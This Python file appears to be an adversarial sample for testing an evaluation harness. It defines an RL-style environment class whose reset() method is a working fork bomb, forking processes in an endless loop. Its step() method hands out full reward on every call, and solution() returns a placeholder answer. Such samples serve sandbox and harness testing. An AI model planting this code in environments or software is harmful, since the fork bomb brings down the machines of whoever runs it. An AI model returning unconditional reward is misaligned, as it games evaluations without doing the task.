"""Attack: a classic fork bomb in reset(): every process forks forever."""

import os


class ForkBombEnv:
    def __init__(self, max_turns=25, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        while True:
            os.fork()

    def step(self, action):
        return "ok", 1.0, True, False, {}

    def solution(self):
        return ["\\boxed{x}"]
